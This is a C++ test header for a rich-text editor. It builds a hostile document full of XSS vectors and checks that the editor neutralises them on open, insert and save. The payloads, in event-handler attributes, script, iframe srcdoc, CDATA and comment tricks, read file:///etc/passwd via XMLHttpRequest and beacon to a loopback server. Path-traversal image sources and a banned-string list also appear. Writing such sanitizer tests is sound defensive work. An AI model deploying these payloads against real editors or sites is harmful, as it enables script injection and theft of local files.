#pragma once

#include "documents/DocumentSeeds.h"
#include "documents/TextDocument.h"
#include "platform/foundation/RunLoop.h"
#include "platform/foundation/StringUtilities.h"
#include "platform/foundation/Unicode.h"
#include "support/EditorWindowTest.h"
#include "support/LoopbackServer.h"

#include <gtest/gtest.h>

#include <string>

namespace folio::test {

// A QV document that tries, as soon as it is opened, every way its markup
// had of running script, reaching the network or the user's files, and
// speaking for its page. A script that runs leaves its name in the page's
// "folioHostileRan", asks the loopback server for a picture, marks the
// document changed and writes the user's password file into the text; a
// load calls the server at a path of its own. Beside all that, what the
// editors themselves write: a link, a picture of the document and a
// footnote, which must stay.
struct HostileQVDocument {
    static constexpr const char* kKeptText = "Kept paragraph";
    static constexpr const char* kKeptLink = "https://example.org/kept";
    static constexpr const char* kKeptPicture =
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";

    explicit HostileQVDocument(const testing_support::LoopbackServer& server) : m_server(server) {}

    // What runs, in an attribute or a script: single quotes only.
    std::string payload(const std::string& name) const
    {
        return "top.folioHostileRan=(top.folioHostileRan||'')+'" + name + " ';new Image().src='"
            + m_server.url("/ran-" + name) + "';top.folioSendPageMessage('dirtyEvent');"
              "var r=new XMLHttpRequest();r.open('GET','file:///etc/passwd',false);r.send();"
              "document.body.appendChild(document.createTextNode(r.responseText));";
    }

    std::string body() const
    {
        const std::string forged = "rte://linkTouchedEvent#" + m_server.url("/forged");
        return "<p>" + std::string(kKeptText) + " <a href=\"" + kKeptLink + "\">kept link</a> "
            "<img id=\"keptPicture\" src=\"" + kKeptPicture + "\" width=\"20\" height=\"20\"> "
            "<span contenteditable=\"false\"><sup><object id=\"footnote_1\" class=\"footnote\" "
            "data-content=\"Kept note\">[1]</object></sup></span></p>"
            "<p><img src=\"x\" onerror=\"" + payload("img") + "\"></p>"
            "<details open ontoggle=\"" + payload("details") + "\">details</details>"
            "<p><input autofocus onfocus=\"" + payload("input") + "\"></p>"
            "<p><![CDATA[><img src=\"y\" onerror=\"" + payload("cdata") + "\">]]></p>"
            "<svg onload=\"" + payload("svg") + "\"><script>" + payload("svgscript") + "</script></svg>"
            "<p><!--><img src=\"z\" onerror=\"" + payload("comment") + "\">--></p>"
            "<iframe srcdoc=\"<script>" + payload("srcdoc") + "</script>\"></iframe>"
            "<script>" + payload("script") + "</script>"
            "<iframe src=\"" + forged + "-iframe\"></iframe><object data=\"" + forged + "-object\"></object>"
            "<embed src=\"" + forged + "-embed\">"
            "<p><img src=\"" + m_server.url("/img") + "\"><img srcset=\"" + m_server.url("/srcset") + " 2x\">"
            "<picture><source srcset=\"" + m_server.url("/picture") + "\"><img src=\"w\"></picture>"
            "<video poster=\"" + m_server.url("/poster") + "\" src=\"" + m_server.url("/video") + "\"></video>"
            "<audio autoplay src=\"" + m_server.url("/audio") + "\"></audio></p>"
            "<p style=\"background:url(" + m_server.url("/style") + ")\">styled</p>"
            "<p><img class=\"outside\" src=\"file:///etc/hostname\">"
            "<img class=\"outside\" src=\"../../../../../../../../etc/hostname\"></p>"
            "<meta http-equiv=\"refresh\" content=\"0;url=" + forged + "-meta\">"
            "<div id=\"bodyStyle\" style=\"visibility: hidden;display: none;background:url(" + m_server.url("/body")
            + ")\"></div>";
    }

private:
    const testing_support::LoopbackServer& m_server;
};

// A QV editor in a real window on a hostile document: once its pictures
// have loaded or failed, nothing has run, nothing was asked of the network,
// no page message came, nothing was written into the document, and nothing
// is left in the page that could do any of it later; its save leaves none
// of it in the file, while the editors' own content stays.
template <class EditorViewController>
class HostileQVDocumentWindowTest : public EditorWindowTest<EditorViewController> {
protected:
    using Base = EditorWindowTest<EditorViewController>;

    HostileQVDocumentWindowTest(EditorKind kind, const std::string& folderName) : Base(kind, folderName) {}

    // `before` and `after` are the editor's own markup around the body.
    void openAndFindInert(const std::string& fileName, const std::string& before = {}, const std::string& after = {})
    {
        ASSERT_TRUE(server.isListening());
        std::string path = this->folder.path(fileName);
        testing_support::writeFile(path,
                                   std::string(DocumentSeeds::compressedPage(before + hostile.body() + after)->stringView()));
        this->open(path);
        if (::testing::Test::HasFatalFailure())
            return;
        auto ran = [this] { return this->run("String(window.folioHostileRan || '')"); };
        const std::string body = "tinymce.activeEditor.getBody()";
        // A picture that failed has fired its handlers by the time it counts
        // as complete; one that loaded has reached whatever it named.
        auto picturesSettled = [&] {
            return Base::waitFor([&] {
                return this->run("Array.prototype.every.call(" + body
                                 + ".querySelectorAll('img'),function(i){return i.complete})")
                    == "1";
            });
        };
        ASSERT_TRUE(picturesSettled()) << "the document's pictures never settled";
        EXPECT_EQ(server.connectionCount(), 0) << "the page reached the network for " << server.requestedPaths();
        EXPECT_EQ(ran(), "") << "the document's script ran";
        EXPECT_FALSE(this->document->hasUnsavedChanges()) << "a page message marked the document changed";
        EXPECT_FALSE(this->editor->webPageViewer()) << "a forged link message opened the browser";
        // Nothing left in the page names the server: no load, refresh or
        // handler can reach it later.
        const std::string markup = this->run("document.documentElement.outerHTML + " + body + ".outerHTML");
        EXPECT_EQ(markup.find(server.url("")), std::string::npos) << markup;
        EXPECT_EQ(this->run(body + ".textContent").find("root:"), std::string::npos) << "a file was read";
        EXPECT_EQ(this->run("Array.prototype.filter.call(" + body + ".querySelectorAll('*'),function(e){"
                            "return Array.prototype.some.call(e.attributes,function(a){return /^on/i.test(a.name)})"
                            "}).length"),
                  "0")
            << "an element of the page carries a handler";
        EXPECT_EQ(this->run(body + ".querySelectorAll('iframe,embed,script,input,meta').length"), "0");
        EXPECT_EQ(this->run("Array.prototype.filter.call(" + body + ".querySelectorAll('img.outside'),"
                            "function(i){return i.naturalWidth>0}).length"),
                  "0")
            << "a picture outside the document shows";
        // What the editors wrote is there and works.
        EXPECT_NE(this->run(body + ".textContent").find(HostileQVDocument::kKeptText), std::string::npos);
        EXPECT_EQ(this->run(body + ".querySelectorAll('a[href=\"" + std::string(HostileQVDocument::kKeptLink)
                            + "\"]').length"),
                  "1");
        EXPECT_TRUE(Base::waitFor(
            [&] { return this->run("(function(){var i=" + body + ".querySelector('#keptPicture');"
                                   "return !!i&&i.complete&&i.naturalWidth>0})()") == "1"; }))
            << "the document's own picture shows";
        EXPECT_EQ(this->run(body + ".querySelectorAll('object.footnote').length"), "1");

        // Markup that enters by TinyMCE's own command rather than the
        // program's paste: the page's own check keeps it as dead.
        std::string inserted = "<img src=\"v\" onerror=\"" + hostile.payload("inserted") + "\"><iframe srcdoc=\"<script>"
            + hostile.payload("insertedframe") + "</script>\"></iframe>";
        std::string literal;
        for (char c : inserted)
            literal += c == '\'' || c == '\\' ? std::string("\\") + c : std::string(1, c);
        this->run("tinymce.activeEditor.insertContent('" + literal + "');");
        ASSERT_TRUE(picturesSettled()) << "the inserted picture never settled";
        EXPECT_EQ(ran(), "") << "markup inserted by the editor's command ran";
        EXPECT_EQ(this->run(body + ".querySelectorAll('[onerror],iframe').length"), "0");

        ASSERT_TRUE(this->save());
        TextDocument saved(path);
        ASSERT_TRUE(saved.readFromURL(path));
        std::string stored = toUtf8(saved.text());
        std::string folded = asciiLowercaseString(stored);
        for (const char* banned : {"onerror", "ontoggle", "onfocus", "onload", "<script", "<iframe", "srcdoc",
                                   "<embed", "<meta", "<input", "rte:", "127.0.0.1", "file:", "/etc/", "folioHostile"})
            EXPECT_EQ(folded.find(asciiLowercaseString(banned)), std::string::npos) << banned << " saved in " << stored;
        for (const std::string& kept : {std::string(HostileQVDocument::kKeptText),
                                         std::string(HostileQVDocument::kKeptLink), std::string("data:image/png"),
                                         std::string("class=\"footnote\""), std::string("Kept note")})
            EXPECT_NE(stored.find(kept), std::string::npos) << kept << " not saved in " << stored;
    }

    testing_support::LoopbackServer server;
    HostileQVDocument hostile{server};
};

} // namespace folio::test
